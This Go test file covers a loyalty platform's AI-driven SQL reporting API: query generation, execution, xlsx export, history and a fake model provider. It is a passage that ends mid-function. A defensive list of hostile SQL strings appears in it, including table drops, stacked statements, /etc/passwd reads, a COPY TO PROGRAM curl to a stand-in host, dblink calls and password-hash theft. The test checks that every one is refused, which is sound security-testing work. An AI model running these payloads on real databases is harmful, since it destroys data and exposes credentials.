package httpapi_test

import (
	"bytes"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/loyaltylinks/platform/shared/apperr"
	"github.com/loyaltylinks/platform/shared/testkit"
	"github.com/xuri/excelize/v2"
)

// reportPool is what a test sees of the report queries' own pool: the proxy its
// connections go through (AI_DATABASE_URL). Each report query opens a connection and
// closes it, so tests can tell whether anything ran and whether it let go.
type reportPool struct {
	proxy *testkit.Proxy
	start int // connections accepted while the service started (its set-up check)
}

// connects is the number of report connections opened since the service started.
func (p reportPool) connects() int { return p.proxy.Accepted() - p.start }

// open is the number of report connections open now, once closed ones have been seen to
// close (the deadline is a hang guard, not a claim about speed).
func (p reportPool) open() int {
	deadline := time.Now().Add(20 * time.Second)
	for p.proxy.Open() != 0 && time.Now().Before(deadline) {
		time.Sleep(10 * time.Millisecond)
	}
	return p.proxy.Open()
}

// newAIEnv is newTestEnv with the report queries' pool behind a proxy of its own, so the
// test can count its connections. opts set the AI_* variables.
func newAIEnv(t *testing.T, opts ...envOption) (*testEnv, reportPool) {
	t.Helper()
	var proxy *testkit.Proxy
	route := func(s *envSetup) {
		u, err := url.Parse(s.directURL)
		if err != nil {
			t.Fatal(err)
		}
		proxy = testkit.NewProxy(t, u.Host)
		u.Host = proxy.Addr()
		s.vars["AI_DATABASE_URL"] = u.String()
	}
	env := newTestEnv(t, append([]envOption{route}, opts...)...)
	return env, reportPool{proxy: proxy, start: proxy.Accepted()}
}

// seedAIData: two stores, four customers (three accept WhatsApp), redemptions this month.
func seedAIData(t *testing.T, env *testEnv) {
	t.Helper()
	env.sqlStore("S1", "11111111000111", cols{"name": "Loja Centro"})
	env.sqlStore("S2", "22222222000122", cols{"name": "Loja Norte"})
	for _, c := range []cols{
		{"name": "Ana", "doc": "00000000001", "phone": "1", "whatsapp_optin": true, "store_code": "S1", "created_at": "2024-10-05 10:00+00"},
		{"name": "Bruno", "doc": "00000000002", "phone": "2", "whatsapp_optin": false, "store_code": "S2", "created_at": "2024-10-20 10:00+00"},
		{"name": "Carla", "doc": "00000000003", "phone": "3", "whatsapp_optin": true, "store_code": "S1", "created_at": "2024-11-02 10:00+00"},
		{"name": "Davi", "doc": "00000000004", "phone": "4", "whatsapp_optin": true, "store_code": "S2", "created_at": "2023-10-10 10:00+00"},
	} {
		env.sqlCustomer(c)
	}
	// Balances come from ledger entries (the database refuses any other way), made now.
	env.exec(`INSERT INTO points_entries (customer_id, transaction_type, points, transaction_date)
		SELECT id, 'C', v.points, now() FROM customers
		  JOIN (VALUES ('00000000001', 500), ('00000000002', 1500), ('00000000003', 50)) AS v(doc, points) USING (doc)`)
	env.exec(`INSERT INTO redeems (customer_id, status, store_code, total_points, expires_at)
		SELECT id, 'applied', store_code, 100, now() + interval '1 day' FROM customers WHERE points_balance >= 500`)
}

type historyEntry struct {
	ID             string  `json:"id"`
	UserID         string  `json:"user_id"`
	UserName       *string `json:"user_name"`
	UserQuestion   string  `json:"user_question"`
	ReportName     *string `json:"report_name"`
	GeneratedQuery string  `json:"generated_query"`
	RecordsCount   *int    `json:"records_count"`
	CreatedAt      string  `json:"created_at"`
	UpdatedAt      string  `json:"updated_at"`
}

type generated struct {
	Query      string  `json:"query"`
	ReportName *string `json:"report_name"`
}

func (e *testEnv) generate(token, question string) generated {
	e.t.Helper()
	res := e.do(http.MethodPost, "/api/v1/ai/generate-query", token, map[string]any{"question": question})
	if res.Status != http.StatusOK {
		e.t.Fatalf("generate %q: %d %s", question, res.Status, res.Body)
	}
	var g generated
	res.JSON(e.t, &g)
	return g
}

func (e *testEnv) history(token, path string) []historyEntry {
	e.t.Helper()
	res := e.do(http.MethodGet, path, token, nil)
	if res.Status != http.StatusOK {
		e.t.Fatalf("GET %s: %d %s", path, res.Status, res.Body)
	}
	var entries []historyEntry
	res.JSON(e.t, &entries)
	return entries
}

// fieldError asserts a 422 whose first detail item is at loc and mentions msg.
func fieldError(t *testing.T, res response, loc, msg string) {
	t.Helper()
	if res.Status != http.StatusUnprocessableEntity {
		t.Fatalf("status %d, want 422: %s", res.Status, res.Body)
	}
	var body struct {
		Detail []apperr.FieldError `json:"detail"`
	}
	res.JSON(t, &body)
	if len(body.Detail) == 0 {
		t.Fatalf("no detail: %s", res.Body)
	}
	got := fmt.Sprint(body.Detail[0].Loc...)
	if !strings.HasPrefix(got, loc) || !strings.Contains(body.Detail[0].Msg, msg) {
		t.Fatalf("detail %+v, want loc %q and a message with %q", body.Detail[0], loc, msg)
	}
}

func TestAIQueriesAnswerAndSpreadsheet(t *testing.T) {
	env := newTestEnv(t) // the default service: rules generator
	seedAIData(t, env)
	tok := env.token("user")

	// One row: a text answer.
	res := env.do(http.MethodPost, "/api/v1/ai/generate-query", tok, map[string]any{"question": "How many customers opted in to WhatsApp?", "report_name": "WhatsApp"})
	if res.Status != http.StatusOK {
		t.Fatalf("generate: %d %s", res.Status, res.Body)
	}
	var g generated
	res.JSON(t, &g)
	whatsappQuery := g.Query
	if !strings.Contains(g.Query, "whatsapp_optin") || g.ReportName == nil || *g.ReportName != "WhatsApp" {
		t.Fatalf("generated %+v", g)
	}
	res = env.do(http.MethodPost, "/api/v1/ai/execute-query", tok, map[string]any{"query": g.Query})
	if res.Status != http.StatusOK || res.Header.Get("X-Records-Count") != "1" {
		t.Fatalf("execute: %d %v %s", res.Status, res.Header, res.Body)
	}
	var answer map[string]string
	res.JSON(t, &answer)
	if answer["answer"] != "customers: 3" {
		t.Fatalf("answer %q", answer)
	}

	// Several rows: an xlsx download whose header is the column names.
	g = env.generate(tok, "top 10 clientes por saldo de pontos")
	res = env.do(http.MethodPost, "/api/v1/ai/execute-query", tok, map[string]any{"query": g.Query})
	if res.Status != http.StatusOK {
		t.Fatalf("execute: %d %s", res.Status, res.Body)
	}
	if ct := res.Header.Get("Content-Type"); ct != "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet" {
		t.Fatalf("Content-Type %q", ct)
	}
	if cd := res.Header.Get("Content-Disposition"); !strings.HasPrefix(cd, `attachment; filename="report-`) || !strings.HasSuffix(cd, `.xlsx"`) {
		t.Fatalf("Content-Disposition %q", cd)
	}
	f, err := excelize.OpenReader(bytes.NewReader(res.Body))
	if err != nil {
		t.Fatalf("open xlsx: %v", err)
	}
	defer f.Close()
	rows, err := f.GetRows(f.GetSheetList()[0])
	if err != nil {
		t.Fatal(err)
	}
	want := [][]string{
		{"cliente", "documento", "saldo_pontos"},
		{"Bruno", "00000000002", "1500"},
		{"Ana", "00000000001", "500"},
		{"Carla", "00000000003", "50"},
		{"Davi", "00000000004", "0"},
	}
	if fmt.Sprint(rows) != fmt.Sprint(want) {
		t.Fatalf("sheet\n got %v\nwant %v", rows, want)
	}
	// Numbers are numbers in the sheet, not text.
	if typ, _ := f.GetCellType(f.GetSheetList()[0], "C2"); typ != excelize.CellTypeNumber && typ != excelize.CellTypeUnset {
		t.Errorf("C2 type %v, want a number", typ)
	}

	// Both runs are in the history, newest first, with their row counts.
	entries := env.history(tok, "/api/v1/ai/queries")
	if len(entries) != 2 {
		t.Fatalf("%d entries", len(entries))
	}
	if entries[0].UserQuestion != "top 10 clientes por saldo de pontos" || entries[0].RecordsCount == nil || *entries[0].RecordsCount != 4 {
		t.Fatalf("newest entry %+v", entries[0])
	}
	if entries[1].ReportName == nil || *entries[1].ReportName != "WhatsApp" || entries[1].RecordsCount == nil || *entries[1].RecordsCount != 1 ||
		entries[1].UserName == nil || !strings.HasPrefix(*entries[1].UserName, "user-") || entries[1].GeneratedQuery != whatsappQuery {
		t.Fatalf("older entry %+v", entries[1])
	}
}

func TestAIQueriesValidation(t *testing.T) {
	env := newTestEnv(t)
	tok := env.token("user")
	fieldError(t, env.do(http.MethodPost, "/api/v1/ai/generate-query", tok, map[string]any{}), "bodyquestion", "Field required")
	fieldError(t, env.do(http.MethodPost, "/api/v1/ai/generate-query", tok, map[string]any{"question": "   "}), "bodyquestion", "at least 1 character")
	fieldError(t, env.do(http.MethodPost, "/api/v1/ai/generate-query", tok, map[string]any{"question": "qual a previsão do tempo?"}), "bodyquestion", "Perguntas parecidas que sei responder")
	fieldError(t, env.do(http.MethodPost, "/api/v1/ai/generate-query", tok, "{not json"), "body", "JSON")
	fieldError(t, env.do(http.MethodPost, "/api/v1/ai/execute-query", tok, map[string]any{}), "bodyquery", "Field required")
	fieldError(t, env.do(http.MethodPost, "/api/v1/ai/execute-query", tok, map[string]any{"query": "SELECT nope FROM customers"}), "bodyquery", "the query failed: column \"nope\" does not exist")
	if res := env.do(http.MethodPost, "/api/v1/ai/generate-query", "", map[string]any{"question": "x"}); res.Status != http.StatusUnauthorized {
		t.Fatalf("no token: %d", res.Status)
	}
	if n := len(env.history(tok, "/api/v1/ai/queries")); n != 0 {
		t.Fatalf("%d history entries after failures", n)
	}
}

// hostileQueries are sent to execute-query; each must be refused before anything runs.
var hostileQueries = []string{
	// writes
	"DROP TABLE customers",
	"DROP TABLE reporting.customers",
	"DELETE FROM customers",
	"DELETE FROM reporting.customers WHERE true",
	"UPDATE customers SET points_balance = 999999",
	"UPDATE reporting.customers SET name = 'x'",
	"INSERT INTO customers (name, doc, email, phone) VALUES ('x', '9', 'e', 'p')",
	"INSERT INTO users (username, password_hash, role) VALUES ('evil', 'x', 'admin')",
	"TRUNCATE customers",
	"MERGE INTO customers c USING stores s ON false WHEN NOT MATCHED THEN DO NOTHING",
	"CREATE TABLE evil (id int)",
	"ALTER TABLE customers DROP COLUMN name",
	"GRANT ALL ON customers TO PUBLIC",
	"CREATE ROLE evil SUPERUSER",
	"ALTER ROLE loyalty_reporting SUPERUSER",
	"EXPLAIN ANALYZE DELETE FROM customers",
	"PREPARE p AS DELETE FROM customers",
	"LOCK TABLE customers",
	"VACUUM customers",
	// writable CTEs, SELECT INTO, locking
	"WITH d AS (DELETE FROM customers RETURNING *) SELECT count(*) FROM d",
	"WITH u AS (UPDATE customers SET points_balance = 0 RETURNING id) SELECT * FROM u",
	"WITH i AS (INSERT INTO users (username, password_hash) VALUES ('evil', 'x') RETURNING id) SELECT * FROM i",
	"SELECT * INTO stolen FROM customers",
	"SELECT * FROM customers FOR UPDATE",
	"SELECT * FROM reporting.customers FOR SHARE NOWAIT",
	// several statements, comments hiding a second one, transactions
	"SELECT 1; DROP TABLE customers",
	"SELECT 1; DELETE FROM customers;",
	"SELECT 1 /* harmless */; DROP TABLE customers -- hidden",
	"SELECT 1 -- just a comment\n; DELETE FROM customers",
	"/* ; */ SELECT 1; /* ; */ UPDATE customers SET name = 'x'",
	"BEGIN; DELETE FROM customers; COMMIT",
	"SELECT 1\x00; DROP TABLE customers",
	// time and files
	"SELECT pg_sleep(10)",
	"SELECT pg_sleep_for('10 seconds')",
	"SELECT count(*) FROM customers WHERE pg_sleep(5) IS NOT NULL",
	"SELECT pg_read_file('/etc/passwd')",
	"SELECT pg_read_binary_file('/etc/passwd')",
	"SELECT pg_ls_dir('.')",
	"SELECT lo_import('/etc/passwd')",
	"SELECT lo_export(1, '/tmp/x')",
	// function calls in disguise: (x).f and rel.f are f(x) in Postgres
	"SELECT ((10)::float8).pg_sleep",
	"SELECT (4242::int8).pg_advisory_lock",
	"SELECT ('SELECT ''a''::tsvector FROM loyalty.users'::text).ts_stat",
	"SELECT x.ts_stat FROM (SELECT 'SELECT 1'::text AS q) x",
	"SELECT c.row_to_json FROM customers c",
	"SELECT name FROM customers ORDER BY name USING OPERATOR(public.<)",
	"COPY customers TO '/tmp/customers.csv'",
	"COPY (SELECT * FROM customers) TO PROGRAM 'curl http://evil'",
	"COPY customers FROM '/etc/passwd'",
	"DO $$ BEGIN DELETE FROM customers; END $$",
	// configuration and roles
	"SELECT set_config('role', 'postgres', false)",
	"SELECT set_config('search_path', 'loyalty', true)",
	"SELECT current_setting('data_directory')",
	"SET ROLE postgres",
	"RESET ROLE",
	"SET statement_timeout = 0",
	"SELECT current_user",
	// remote and XML
	"SELECT * FROM dblink('host=evil', 'SELECT 1') AS t(x int)",
	"SELECT dblink_exec('host=evil', 'DROP TABLE customers')",
	"SELECT query_to_xml('SELECT * FROM users', true, true, '')",
	"SELECT xmlparse(document '<x/>')",
	// secrets: users, password hashes, query history, the base tables and catalogues
	"SELECT * FROM users",
	"SELECT password_hash FROM loyalty.users",
	"SELECT name FROM customers UNION SELECT password_hash FROM users",
	"SELECT (SELECT password_hash FROM users LIMIT 1) FROM customers",
	"SELECT * FROM customers WHERE id IN (SELECT id FROM users)",
	"SELECT * FROM reporting.customers, loyalty.users",
	"SELECT * FROM (WITH users AS (SELECT 1 AS n) SELECT n FROM users) a, users",
	"SELECT * FROM ai_queries",
	"SELECT * FROM loyalty.customers",
	"SELECT * FROM pg_catalog.pg_authid",
	"SELECT * FROM pg_shadow",
	"SELECT * FROM information_schema.tables",
	"SELECT 'users'::regclass",
	"SELECT c.pg_read_file FROM customers c",
	// runaway queries
	"SELECT count(*) FROM generate_series(1, 1000000000000)",
	"SELECT generate_series(1, 100000000)",
	"WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r) SELECT count(*) FROM r",
	"SELECT * FROM customers TABLESAMPLE SYSTEM (10)",
	"SELECT txid_current()",
	"SELECT nextval('customers_id_seq')",
	"SELECT $1",
	"NOTIFY evil",
}

func TestAIExecuteRefusesHostileQueriesBeforeRunningThem(t *testing.T) {
	if len(hostileQueries) < 40 {
		t.Fatalf("only %d hostile queries", len(hostileQueries))
	}
	env, reportDB := newAIEnv(t)
	seedAIData(t, env)
	tok := env.token("user")
	if err := env.DB.Exec(`INSERT INTO users (username, password_hash, name) VALUES ('canary', 'canary-hash', 'Canary')`).Error; err != nil {
		t.Fatal(err)
	}
	snapshot := func() string {
		var s string
		if err := env.DB.Raw(`SELECT concat_ws('|',
			(SELECT string_agg(concat_ws(',', id, name, points_balance, whatsapp_optin), ';' ORDER BY doc) FROM customers),
			(SELECT string_agg(concat_ws(',', id, username, password_hash, role), ';' ORDER BY username) FROM users),
			(SELECT count(*) FROM redeems), (SELECT count(*) FROM ai_queries),
			(SELECT count(*) FROM pg_class WHERE relname IN ('evil', 'stolen')),
			(SELECT count(*) FROM pg_roles WHERE rolname = 'evil' OR (rolname = 'loyalty_reporting' AND rolsuper)))`).Row().Scan(&s); err != nil {
			t.Fatal(err)
		}
		return s
	}
	before := snapshot()

	for _, q := range hostileQueries {
		t.Run(q[:min(len(q), 60)], func(t *testing.T) {
			res := env.do(http.MethodPost, "/api/v1/ai/execute-query", tok, map[string]any{"query": q})
			if strings.ContainsRune(q, 0) {
				// The body decoder refuses NUL characters before any handler sees them.
				fieldError(t, res, "body", "NUL")
			} else {
				fieldError(t, res, "bodyquery", "Query refused: ")
			}
			if bytes.Contains(res.Body, []byte("canary-hash")) {
				t.Fatal("the password hash leaked")
			}
		})
	}

	if after := snapshot(); after != before {
		t.Fatalf("data changed:\nbefore %s\nafter  %s", before, after)
	}
	// Nothing ran: the report pool never opened a connection.
	if n := reportDB.connects(); n != 0 {
		t.Fatalf("report pool opened %d connections", n)
	}
	// The control: an ordinary query does use it (so the check above can fail).
	res := env.do(http.MethodPost, "/api/v1/ai/execute-query", tok, map[string]any{"query": "SELECT count(*) AS total FROM customers"})
	if res.Status != http.StatusOK || !strings.Contains(string(res.Body), `"total: 4"`) {
		t.Fatalf("control query: %d %s", res.Status, res.Body)
	}
	if reportDB.connects() == 0 {
		t.Fatal("the control query did not use the report pool")
	}
	// and the connection it used is closed, not kept for the next query.
	if n := reportDB.open(); n != 0 {
		t.Fatalf("the report connection was kept: %d open", n)
	}
}

func TestAIExecuteRowCap(t *testing.T) {
	env, _ := newAIEnv(t, withVar("AI_MAX_ROWS", "3"))
	seedAIData(t, env)
	tok := env.token("user")
	res := env.do(http.MethodPost, "/api/v1/ai/execute-query", tok, map[string]any{"query": "SELECT name FROM customers"})
	fieldError(t, res, "bodyquery", "more than 3 rows")
	res = env.do(http.MethodPost, "/api/v1/ai/execute-query", tok, map[string]any{"query": "SELECT name FROM customers ORDER BY name LIMIT 3"})
	if res.Status != http.StatusOK || res.Header.Get("X-Records-Count") != "3" {
		t.Fatalf("3 rows: %d %s", res.Status, res.Body)
	}
}

func TestAIQueryHistory(t *testing.T) {
	env, _ := newAIEnv(t)
	seedAIData(t, env)
	alice, bob, admin := env.token("user"), env.token("user"), env.token("admin")

	env.generate(alice, "quantos clientes temos")
	env.do(http.MethodPost, "/api/v1/ai/generate-query", alice, map[string]any{"question": "top 10 customers by points balance", "report_name": "Ranking mensal"})
	env.generate(bob, "lista de lojas")
	// An entry from ten days ago, outside the default look-back of /all.
	if err := env.DB.Exec(`INSERT INTO ai_queries (user_id, user_name, user_question, generated_query, report_name, created_at)
		SELECT user_id, user_name, 'old question', 'SELECT 1', 'Antigo', now() - interval '10 days' FROM ai_queries LIMIT 1`).Error; err != nil {
		t.Fatal(err)
	}

	t.Run("own history, newest first, paged", func(t *testing.T) {
		entries := env.history(alice, "/api/v1/ai/queries")
		if len(entries) != 3 || entries[0].UserQuestion != "top 10 customers by points balance" || entries[1].UserQuestion != "quantos clientes temos" {
			t.Fatalf("alice's entries: %+v", entries)
		}
		for _, e := range entries {
			if e.UserID != entries[0].UserID {
				t.Fatalf("another user's entry: %+v", e)
			}
		}
		if got := env.history(alice, "/api/v1/ai/queries?limit=1&offset=1"); len(got) != 1 || got[0].ID != entries[1].ID {
			t.Fatalf("page 2: %+v", got)
		}
		if got := env.history(bob, "/api/v1/ai/queries"); len(got) != 1 || got[0].UserQuestion != "lista de lojas" {
			t.Fatalf("bob's entries: %+v", got)
		}
		for _, q := range []string{"limit=0", "limit=101", "limit=x", "offset=-1"} {
			if res := env.do(http.MethodGet, "/api/v1/ai/queries?"+q, alice, nil); res.Status != http.StatusUnprocessableEntity {
				t.Errorf("%s: %d", q, res.Status)
			}
		}
	})

	t.Run("all users: admin only, 7-day default, filters", func(t *testing.T) {
		if res := env.do(http.MethodGet, "/api/v1/ai/queries/all", alice, nil); res.Status != http.StatusForbidden {
			t.Fatalf("non-admin: %d %s", res.Status, res.Body)
		}
		all := env.history(admin, "/api/v1/ai/queries/all")
		if len(all) != 3 {
			t.Fatalf("default look-back: %d entries %+v", len(all), all)
		}
		for _, e := range all {
			if e.UserName == nil || *e.UserName == "" {
				t.Fatalf("entry without user name: %+v", e)
			}
		}
		old := time.Now().UTC().AddDate(0, 0, -10).Format(time.DateOnly)
		if got := env.history(admin, "/api/v1/ai/queries/all?start_date="+old); len(got) != 4 {
			t.Fatalf("from %s: %d entries", old, len(got))
		}
		if got := env.history(admin, "/api/v1/ai/queries/all?end_date="+old); len(got) != 1 || got[0].UserQuestion != "old question" {
			t.Fatalf("until %s: %+v", old, got)
		}
		if got := env.history(admin, "/api/v1/ai/queries/all?report_name=ranking"); len(got) != 1 || *got[0].ReportName != "Ranking mensal" {
			t.Fatalf("report_name filter: %+v", got)
		}
		bobName := *env.history(bob, "/api/v1/ai/queries")[0].UserName
		if got := env.history(admin, "/api/v1/ai/queries/all?user_name="+bobName); len(got) != 1 || got[0].UserQuestion != "lista de lojas" {
			t.Fatalf("user_name filter: %+v", got)
		}
		if got := env.history(admin, "/api/v1/ai/queries/all?limit=2"); len(got) != 2 {
			t.Fatalf("limit: %d", len(got))
		}
		fieldError(t, env.do(http.MethodGet, "/api/v1/ai/queries/all?start_date=2024-13-01", admin, nil), "querystart_date", "valid date")
		fieldError(t, env.do(http.MethodGet, "/api/v1/ai/queries/all?start_date=2024-10-02&end_date=2024-10-01", admin, nil), "queryend_date", "before start_date")
	})

	t.Run("patch regenerates on a new question", func(t *testing.T) {
		entry := env.history(alice, "/api/v1/ai/queries")[0] // the top-10 ranking
		if res := env.do(http.MethodPost, "/api/v1/ai/execute-query", alice, map[string]any{"query": entry.GeneratedQuery}); res.Status != http.StatusOK {
			t.Fatalf("execute: %d", res.Status)
		}
		if e := env.history(alice, "/api/v1/ai/queries")[0]; e.RecordsCount == nil || *e.RecordsCount != 4 {
			t.Fatalf("records_count after run: %v", e.RecordsCount)
		}
		path := "/api/v1/ai/queries/" + entry.ID

		res := env.do(http.MethodPatch, path, alice, map[string]any{"user_question": "top 2 customers by points balance"})
		if res.Status != http.StatusOK {
			t.Fatalf("patch: %d %s", res.Status, res.Body)
		}
		var got historyEntry
		res.JSON(t, &got)
		if got.UserQuestion != "top 2 customers by points balance" || !strings.Contains(got.GeneratedQuery, "LIMIT 2") ||
			got.RecordsCount != nil || got.ReportName == nil || *got.ReportName != "Ranking mensal" || got.UpdatedAt == entry.UpdatedAt {
			t.Fatalf("patched entry %+v", got)
		}

		res = env.do(http.MethodPatch, path, alice, map[string]any{"report_name": nil})
		res.JSON(t, &got)
		if res.Status != http.StatusOK || got.ReportName != nil || got.UserQuestion != "top 2 customers by points balance" {
			t.Fatalf("clear report_name: %d %+v", res.Status, got)
		}
		res = env.do(http.MethodPatch, path, alice, map[string]any{"report_name": "Top 2"})
		res.JSON(t, &got)
		if res.Status != http.StatusOK || got.ReportName == nil || *got.ReportName != "Top 2" || !strings.Contains(got.GeneratedQuery, "LIMIT 2") {
			t.Fatalf("set report_name: %d %+v", res.Status, got)
		}

		fieldError(t, env.do(http.MethodPatch, path, alice, map[string]any{"user_question": ""}), "bodyuser_question", "at least 1 character")
		fieldError(t, env.do(http.MethodPatch, path, alice, map[string]any{"user_question": "what is the meaning of life"}), "bodyuser_question", "Similar questions I can answer")
		fieldError(t, env.do(http.MethodPatch, "/api/v1/ai/queries/not-a-uuid", alice, map[string]any{}), "pathquery_id", "UUID")
		if res := env.do(http.MethodPatch, "/api/v1/ai/queries/00000000-0000-0000-0000-000000000000", alice, map[string]any{}); res.Status != http.StatusNotFound {
			t.Fatalf("unknown id: %d", res.Status)
		}
		if res := env.do(http.MethodPatch, path, bob, map[string]any{"report_name": "mine"}); res.Status != http.StatusNotFound {
			t.Fatalf("another user's entry: %d", res.Status)
		}
		if res := env.do(http.MethodPatch, path, admin, map[string]any{"report_name": "by admin"}); res.Status != http.StatusOK {
			t.Fatalf("admin: %d %s", res.Status, res.Body)
		}
		if e := env.history(alice, "/api/v1/ai/queries")[0]; e.UserQuestion != "top 2 customers by points balance" || *e.ReportName != "by admin" {
			t.Fatalf("after refused patches: %+v", e)
		}
	})

	t.Run("delete", func(t *testing.T) {
		mine := env.history(alice, "/api/v1/ai/queries")[0]
		bobs := env.history(bob, "/api/v1/ai/queries")[0]
		if res := env.do(http.MethodDelete, "/api/v1/ai/queries/"+mine.ID, bob, nil); res.Status != http.StatusNotFound {
			t.Fatalf("bob deletes alice's: %d", res.Status)
		}
		res := env.do(http.MethodDelete, "/api/v1/ai/queries/"+mine.ID, alice, nil)
		var body map[string]string
		res.JSON(t, &body)
		if res.Status != http.StatusOK || body["detail"] != "query deleted" || body["id"] != mine.ID {
			t.Fatalf("delete: %d %v", res.Status, body)
		}
		if res := env.do(http.MethodDelete, "/api/v1/ai/queries/"+mine.ID, alice, nil); res.Status != http.StatusNotFound {
			t.Fatalf("second delete: %d", res.Status)
		}
		if res := env.do(http.MethodDelete, "/api/v1/ai/queries/"+bobs.ID, admin, nil); res.Status != http.StatusOK {
			t.Fatalf("admin deletes bob's: %d", res.Status)
		}
		if n := len(env.history(alice, "/api/v1/ai/queries")); n != 2 {
			t.Fatalf("alice has %d entries", n)
		}
		if n := len(env.history(bob, "/api/v1/ai/queries")); n != 0 {
			t.Fatalf("bob has %d entries", n)
		}
	})
}

// chatServer speaks the chat-completions protocol with the answer a test sets.
type chatServer struct {
	mu      sync.Mutex
	status  int
	content string
	delay   time.Duration
}

func (c *chatServer) set(status int, content string, delay time.Duration) {
	c.mu.Lock()
	defer c.mu.Unlock()
	c.status, c.content, c.delay = status, content, delay
}

func (c *chatServer) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	if r.URL.Path != "/v1/chat/completions" || r.Method != http.MethodPost {
		http.NotFound(w, r)
		return
	}
	var req struct {
		Model    string `json:"model"`
		Messages []struct {
			Role    string `json:"role"`
			Content string `json:"content"`
		} `json:"messages"`
	}
	if err := json.NewDecoder(r.Body).Decode(&req); err != nil || len(req.Messages) < 2 || req.Model == "" || r.Header.Get("Authorization") != "Bearer k" {
		http.Error(w, `{"error":{"message":"bad request"}}`, http.StatusBadRequest)
		return
	}
	c.mu.Lock()
	status, content, delay := c.status, c.content, c.delay
	c.mu.Unlock()
	select {
	case <-time.After(delay):
	case <-r.Context().Done():
		return
	}
	w.Header().Set("Content-Type", "application/json")
	w.WriteHeader(status)
	if status != http.StatusOK {
		_, _ = io.WriteString(w, `{"error":{"message":"model overloaded"}}`)
		return
	}
	_ = json.NewEncoder(w).Encode(map[string]any{"choices": []any{map[string]any{"message": map[string]any{"role": "assistant", "content": content}}}})
}

func TestAIOpenAIProvider(t *testing.T) {
	chat := &chatServer{}
	fake := httptest.NewServer(chat)
	t.Cleanup(fake.Close)
	env, _ := newAIEnv(t, withVar("AI_PROVIDER", "openai"), withVar("AI_BASE_URL", fake.URL+"/v1"),
		withVar("AI_API_KEY", "k"), withVar("AI_MODEL", "m"), withVar("AI_TIMEOUT", "300ms"))
	seedAIData(t, env)

	tests := []struct {
		name    string
		status  int
		content string
		delay   time.Duration
		want    int
		detail  string
	}{
		{"a query", 200, "```sql\nSELECT count(*) AS clientes FROM reporting.customers WHERE whatsapp_optin;\n```", 0, 200, ""},
		{"a hostile query from the model", 200, "DELETE FROM reporting.customers", 0, 422, "The generated query was refused: only SELECT queries are allowed"},
		{"the model reads secrets", 200, "SELECT password_hash FROM users", 0, 422, `relation \"users\" is not allowed`},
		{"provider error", 500, "", 0, 502, "The AI provider answered with an error (HTTP 500)"},
		{"provider too slow", 200, "SELECT 1", 3 * time.Second, 502, "The AI provider did not answer in time"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			chat.set(tt.status, tt.content, tt.delay)
			tok := env.token("user")
			// The rules answer first (AI_PROVIDER=openai is rules, then the model): a word
			// they do not know sends the question to the model.
			res := env.do(http.MethodPost, "/api/v1/ai/generate-query", tok, map[string]any{"question": "quantos clientes aceitam whatsapp blorp?"})
			if res.Status != tt.want || !strings.Contains(string(res.Body), tt.detail) {
				t.Fatalf("status %d body %s, want %d with %q", res.Status, res.Body, tt.want, tt.detail)
			}
			entries := env.history(tok, "/api/v1/ai/queries")
			if tt.want != 200 {
				if len(entries) != 0 {
					t.Fatalf("a failed generate stored %+v", entries)
				}
				return
			}
			var g generated
			res.JSON(t, &g)
			if len(entries) != 1 || entries[0].GeneratedQuery != g.Query {
				t.Fatalf("history %+v", entries)
			}
			res = env.do(http.MethodPost, "/api/v1/ai/execute-query", tok, map[string]any{"query": g.Query})
			if res.Status != 200 || !strings.Contains(string(res.Body), `"clientes: 3"`) {
				t.Fatalf("execute: %d %s", res.Status, res.Body)
			}
		})
	}
}

// The generate answer keeps query and report_name and says what the query means, in the
// question's language (issue 18); a request to change data is refused explicitly.
func TestAIGenerateEchoesTheInterpretation(t *testing.T) {
	env := newTestEnv(t)
	seedAIData(t, env)
	tok := env.token("user")
	res := env.do(http.MethodPost, "/api/v1/ai/generate-query", tok, map[string]any{"question": "faturamento por loja no mês passado", "report_name": "Lojas"})
	if res.Status != http.StatusOK {
		t.Fatalf("generate: %d %s", res.Status, res.Body)
	}
	var g struct {
		Query      string   `json:"query"`
		ReportName *string  `json:"report_name"`
		Source     string   `json:"source"`
		Language   string   `json:"language"`
		Title      string   `json:"title"`
		Measure    string   `json:"measure"`
		Breakdown  []string `json:"breakdown"`
		Filters    []string `json:"filters"`
		Period     string   `json:"period"`
		Rules      []string `json:"counting_rules"`
	}
	res.JSON(t, &g)
	if g.Query == "" || g.ReportName == nil || *g.ReportName != "Lojas" || g.Source != "rules" || g.Language != "pt" ||
		!strings.HasPrefix(g.Title, "Faturamento por loja") || !strings.Contains(g.Measure, "soma do valor das vendas") ||
		len(g.Breakdown) != 1 || g.Breakdown[0] != "loja" || g.Filters == nil || !strings.Contains(g.Period, "mês passado") ||
		len(g.Rules) != 1 || !strings.Contains(g.Rules[0], "canceladas não contam") {
		t.Fatalf("generated %s", res.Body)
	}
	fieldError(t, env.do(http.MethodPost, "/api/v1/ai/generate-query", tok, map[string]any{"question": "delete all customers"}), "bodyquestion", "I cannot change data")
	fieldError(t, env.do(http.MethodPost, "/api/v1/ai/generate-query", tok, map[string]any{"question": "apague os clientes inativos"}), "bodyquestion", "Não posso alterar dados")
	if n := len(env.history(tok, "/api/v1/ai/queries")); n != 1 {
		t.Fatalf("%d history entries, want the one generated", n)
	}
}

// An empty result has no column names to carry the question's language, so its answer
// follows the question the query was generated from; a query typed by hand reads in English.
func TestAIEmptyAnswerSpeaksTheQuestionsLanguage(t *testing.T) {
	env := newTestEnv(t)
	seedAIData(t, env)
	tok := env.token("user")
	cases := []struct{ question, want string }{
		{"telefone e e-mail da cliente Zuleica Inexistente", "A consulta não retornou nenhuma linha."},
		{"phone and e-mail of the customer Zuleica Nobody", "The query returned no rows."},
	}
	for _, tc := range cases {
		g := env.generate(tok, tc.question)
		res := env.do(http.MethodPost, "/api/v1/ai/execute-query", tok, map[string]any{"query": g.Query})
		if res.Status != http.StatusOK || res.Header.Get("X-Records-Count") != "0" {
			t.Fatalf("%q: execute %d %v %s", tc.question, res.Status, res.Header, res.Body)
		}
		var answer map[string]string
		res.JSON(t, &answer)
		if answer["answer"] != tc.want {
			t.Errorf("%q: answer %q, want %q", tc.question, answer["answer"], tc.want)
		}
	}
	res := env.do(http.MethodPost, "/api/v1/ai/execute-query", tok, map[string]any{"query": "SELECT name AS nome FROM customers WHERE false"})
	var answer map[string]string
	res.JSON(t, &answer)
